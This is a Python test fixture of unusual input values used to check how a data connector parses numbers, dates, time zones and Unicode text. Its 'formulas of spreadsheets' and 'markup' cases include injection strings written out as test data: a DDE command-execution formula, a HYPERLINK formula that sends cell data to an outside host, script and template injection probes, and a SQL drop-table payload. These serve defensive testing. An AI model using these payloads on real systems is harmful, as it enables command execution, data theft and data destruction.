"""Files whose values are odd."""

from __future__ import annotations

import datetime as dt

from tests.connectors.bad_input.cases import (
    COST,
    FIELDS,
    Case,
    flags,
    instants,
    integers,
    numbers,
    texts,
)

NEW_YORK = "America/New_York"

NUMBERS = [
    numbers(
        "NaN and infinities", {}, ["NaN", "nan", "Infinity", "-Infinity", "inf", "-inf", "+INF"]
    ),
    numbers("1e400", {"1e308": 1e308}, ["1e400", "-1e400", "1e5000000"]),
    numbers("too small to be held", {"1e-300": 1e-300, "0e-999": 0.0}, ["1e-400", "-5e-999"]),
    numbers(
        "the edges of a double",
        {"1.7976931348623157e308": 1.7976931348623157e308, "4.9e-324": 5e-324},
        ["1.7976931348623159e308"],
    ),
    numbers("comma decimals", {"1.5": 1.5}, ["1,5", "0,1", "-2,50"]),
    numbers(
        "thousands separators", {"1000": 1000.0}, ["1,000", "1.000,5", "1 000", "1'000", "1_000"]
    ),
    numbers("full-width digits", {}, ["１２３", "１.５", "－5", "５"]),
    numbers("digits of other scripts", {}, ["١٢٣", "१२३", "๑๒๓", "Ⅷ", "²", "五"]),
    numbers("negative zero", {"-0": 0.0, "-0.0": 0.0, "0": 0.0}, []),
    numbers("signs", {"+5": 5.0, "-5": -5.0}, ["−5", "--5", "+-5", "5-", "(5)", "- 5"]),
    numbers("currencies and units", {}, ["$5", "¥500", "5 EUR", "5%", "5k", "5円"]),
    numbers(
        "forms of numbers", {"5.": 5.0, ".5": 0.5, "1e3": 1000.0, "1E-2": 0.01, "007": 7.0}, []
    ),
    numbers(
        "other notations", {}, ["0x1F", "0b1", "0o7", "1e", "e5", ".", "1.2.3", "1/2", "1e1.5"]
    ),
    numbers(
        "very large whole numbers",
        {"9007199254740992": 9007199254740992.0, "100000000000000000000": 1e20},
        ["9007199254740993", "12345678901234567890", "-9007199254740993.0"],
        "a whole number that no double holds",
    ),
    numbers(
        "words in a number column", {"4": 4.0}, ["N/A", "-", "none", "#N/A", "unknown", "true"]
    ),
    numbers(
        "blanks around numbers",
        {" 5": 5.0, "6 ": 6.0, "\u00a07\u3000": 7.0},
        ["5\u200b", "\u200f5"],
    ),
    integers("whole numbers", {"5": 5, "5.0": 5, "+7": 7, "007": 7}, ["5.5", "1e3", "５"]),
    integers(
        "whole numbers beyond 64 bits",
        {"999999999999999999": 999999999999999999},
        ["9999999999999999999", "18446744073709551616", "1" * 40],
    ),
    flags(
        "boolean words",
        {"true": True, "FALSE": False, "Yes": True, "n": False, "1": True, "0": False, " t ": True},
        ["はい", "on", "2", "ja", "1.0", "null", "✓", "TRUE!"],
    ),
]

DATES = [
    instants("03/04 without a declared format", {}, ["03/04/2026", "3.4.2026", "04/03/26"]),
    instants(
        "03/04 with a declared format",
        {"03/04/2026": "2026-04-03T00:00"},
        ["2026-04-03", "04/13/2026", "3rd April"],
        reason="matches none of the formats",
        formats=["%d/%m/%Y"],
    ),
    instants(
        "two formats, the first that fits",
        {"13/04/2026": "2026-04-13T00:00", "04/13/2026": "2026-04-13T00:00"},
        [],
        formats=["%d/%m/%Y", "%m/%d/%Y"],
    ),
    instants("24:00", {}, ["2026-07-01T24:00", "2026-07-01 24:00:00"], reason="24:00 is no time"),
    instants("24:00 under a format", {}, ["01.07.2026 24:00"], formats=["%d.%m.%Y %H:%M"]),
    instants("24:00 with an offset", {}, ["2026-07-01T24:00:00Z"], reason="24:00 is no time"),
    instants(
        "the hour that summer time skips",
        {"2026-03-08T01:59:59": "2026-03-08T06:59:59", "2026-03-08T03:00": "2026-03-08T07:00"},
        ["2026-03-08T02:30:00"],
        reason="the clock skips it",
        timezone=NEW_YORK,
    ),
    instants(
        "the hour that winter time repeats",
        {
            "2026-11-01T00:59:59": "2026-11-01T04:59:59",
            "2026-11-01T02:00": "2026-11-01T07:00",
            "2026-11-01T01:30:00-04:00": "2026-11-01T05:30:00",
            "2026-11-01T01:30:00-05:00": "2026-11-01T06:30:00",
        },
        ["2026-11-01T01:30:00"],
        reason="happens twice",
        timezone=NEW_YORK,
    ),
    instants(
        "the skipped hour under a format",
        {"2026/03/08 03:00": "2026-03-08T07:00"},
        ["2026/03/08 02:30"],
        reason="the clock skips it",
        timezone=NEW_YORK,
        formats=["%Y/%m/%d %H:%M"],
    ),
    instants(
        "a day whose midnight is skipped",
        {"2018-11-04": "2018-11-04T03:00"},
        ["2018-11-04T00:30"],
        timezone="America/Sao_Paulo",
    ),
    instants(
        "days that are none",
        {"2028-02-29": "2028-02-29T00:00"},
        [
            "2026-02-29",
            "2026-02-30",
            "2026-13-01",
            "2026-00-10",
            "2026-01-00",
            "0000-00-00",
            "2100-02-29",
        ],
    ),
    instants(
        "times that are none", {}, ["2026-07-01T25:00", "2026-07-01T10:60", "2026-07-01T10:00:61"]
    ),
    instants("a leap second", {}, ["2026-12-31T23:59:60", "2026-12-31T23:59:60Z"]),
    instants("years of two digits", {}, ["26-07-01", "01-07-26", "'26-07-01"]),
    instants(
        "years of two digits under a format",
        {"01.07.26": "2026-07-01T00:00"},
        [],
        formats=["%d.%m.%y"],
    ),
    instants(
        "Japanese eras",
        {},
        ["令和8年7月1日", "R8.7.1", "R08-07-01", "平成38年7月1日", "2026年7月1日"],
    ),
    instants(
        "full-width digits in days", {}, ["２０２６-07-01", "2026-07-0１", "２０２６－０７－０１"]
    ),
    instants("serial numbers of spreadsheets", {}, ["46204", "46204.5", "2026", "20260701"]),
    instants(
        "other ways of ISO 8601",
        {},
        ["2026-W27-3", "2026-182", "2026-07", "--07-01", "P1D", "2026-7-1"],
    ),
    instants("months as words", {}, ["1 July 2026", "Jul 1, 2026", "1-JUL-26", "today", "now"]),
    instants("clocks of twelve hours", {}, ["2026-07-01 10:00 PM", "2026-07-01T10:00pm"]),
    instants(
        "offsets",
        {
            "2026-07-01T09:00:00+09:00": "2026-07-01T00:00",
            "2026-07-01T00:00:00Z": "2026-07-01T00:00",
            "2026-07-01T09:00+0900": "2026-07-01T00:00",
            "2026-06-30 15:00:00-09": "2026-07-01T00:00",
        },
        ["2026-07-01T09:00:00+25:00", "2026-07-01T09:00:00 JST", "2026-07-01Z"],
    ),
    instants(
        "fractions of seconds",
        {
            "2026-07-01T00:00:00.123456789Z": "2026-07-01T00:00:00.123456",
            "2026-07-01T00:00:00,5": "2026-07-01T00:00:00.5",
        },
        ["2026-07-01T00:00:00.Z"],
    ),
    instants(
        "the edges of the calendar",
        {"9999-12-31T23:59:59": "9999-12-31T23:59:59", "1900-01-01": "1900-01-01T00:00"},
        ["10000-01-01", "-0001-01-01", "0000-01-01"],
    ),
    instants(
        "beyond the calendar by an offset",
        {},
        ["9999-12-31T23:59:59-09:00", "0001-01-01T00:00:00+09:00"],
        reason="outside the years 1 to 9999",
    ),
    instants(
        "beyond the calendar by a zone",
        {"9999-12-31": "9999-12-31T05:00", "9999-12-31T18:59:59": "9999-12-31T23:59:59"},
        ["9999-12-31T20:00:00"],
        reason="outside the years 1 to 9999",
        timezone=NEW_YORK,
    ),
    instants(
        "the calendar's last day alone",
        {},
        ["9999-12-31T20:00:00"],
        reason="outside the years 1 to 9999",
        timezone=NEW_YORK,
    ),
    instants(
        "the calendar's last day where the sun rises early",
        {"9999-12-31": "9999-12-30T15:00", "9999-12-31T23:59:59": "9999-12-31T14:59:59"},
        ["0001-01-01", "2026-07-01T24:00"],
        timezone="Asia/Tokyo",
    ),
    instants(
        "epochs in the wrong unit",
        {"1782864000": "2026-07-01T00:00"},
        ["1782864000000", "99999999999999", "1e9", "17828640000000000000"],
        formats=["epoch_seconds"],
    ),
    instants(
        "epochs in milliseconds",
        {"1782864000000": "2026-07-01T00:00", "1782864000123.0": "2026-07-01T00:00:00.123"},
        ["999999999999999", "two"],
        formats=["epoch_milliseconds"],
    ),
    instants(
        "marks of direction in a day",
        {},
        ["\u200f2026-07-01", "2026-07-01\u200e", "2026\u201007\u201001"],
    ),
    instants("zeros and blanks", {}, ["0", "0000-00-00 00:00:00", "1970-01-01T00:00:00 Z Z", "-"]),
    Case(
        "days in a zone",
        b"id,on\na,2026-07-01\nb,2026-07-01T20:00:00Z\nc,2026-07-01T23:59:59\nd,07/01/2026\n",
        record="cost",
        fields=COST,
        timezone="Asia/Tokyo",
        landed={
            "a": {"cost_date": dt.date(2026, 7, 1)},
            "b": {"cost_date": dt.date(2026, 7, 2)},
            "c": {"cost_date": dt.date(2026, 7, 1)},
        },
        refused=(("is_day", "", "07/01/2026"),),
    ),
]

TEXTS = [
    texts(
        "formulas of spreadsheets",
        '=HYPERLINK("http://example.com?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "%0A=1",
    ),
    numbers("formulas as numbers", {}, ["=1+1", "=HYPERLINK(1)", "@5", "+1+1"]),
    texts("emoji", "👍🏽", "👨‍👩‍👧‍👦", "🇯🇵", "☺️", "a😀b"),
    texts("right to left", "שלום עולם", "مرحبا بالعالم", "abc\u202edef\u202c", "\u061cx"),
    texts("composed and decomposed", "é", "e\u0301", "ガ", "か\u3099", "ﬁ", "Ⅷ", "ｶﾞ"),
    texts("blanks around text", " a", "a ", "\u3000a", "a\u00a0", "\u200ba"),
    texts(
        "control characters", "\x1b[31mred\x1b[0m", "\x07", "a\x08b", "\x7f", "a\u0085b", "a\u2028b"
    ),
    texts("words that mean nothing elsewhere", "NULL", "None", "nan", "N/A", "\\N", "-", "0", "''"),
    texts("markup", "<script>alert(1)</script>", "{{ 7*7 }}", "${env:PATH}", "'; drop table x; --"),
    texts("a megabyte of text", "あ" * 350_000, "b" * 1_000_000),
    texts("half a character written out", r"\ud83d", r"\u0000", r"\x00", "&#0;"),
    Case(
        "keys that look alike",
        "id,note\né,1\ne\u0301,2\n e,3\ne,4\nE,5\n".encode(),
        landed={
            "é": {"status": "1"},
            "e\u0301": {"status": "2"},
            " e": {"status": "3"},
            "e": {"status": "4"},
            "E": {"status": "5"},
        },
    ),
    Case(
        "keys that are numbers",
        b"id,note\n007,a\n7,b\n7.0,c\n1e3,d\n12345678901234567890123,e\n",
        landed={
            "007": {"status": "a"},
            "7": {"status": "b"},
            "7.0": {"status": "c"},
            "1e3": {"status": "d"},
            "12345678901234567890123": {"status": "e"},
        },
    ),
    Case(
        "mixed types in every column",
        b"id,note,amount,at\na,1,2,2026-07-01\nb,x,y,z\nc,2026-07-01,3.5,2026-07-02T00:00:00Z\n",
        landed={
            "a": {
                "status": "1",
                "amount": 2.0,
                "promised_at": dt.datetime(2026, 7, 1, tzinfo=dt.UTC),
            },
            "c": {
                "status": "2026-07-01",
                "amount": 3.5,
                "promised_at": dt.datetime(2026, 7, 2, tzinfo=dt.UTC),
            },
        },
        refused=(("is_number", "no finite number", '"y"'),),
    ),
    Case(
        "empty cells are no zeros",
        b'id,note,amount,at\na,,,\nb,"","",""\nc, , , \n',
        landed={key: dict.fromkeys(("status", "amount", "promised_at")) for key in "abc"},
    ),
    Case(
        "no key",
        b"id,note\n,x\na,y\n  ,z\n",
        landed={"a": {"status": "y"}},
        refused=(("required", "no value", "x"), ("required", "no value", "z")),
        fields={**FIELDS, "order_id": {"column": "id", "required": True}},
    ),
]

CASES = [*NUMBERS, *DATES, *TEXTS]
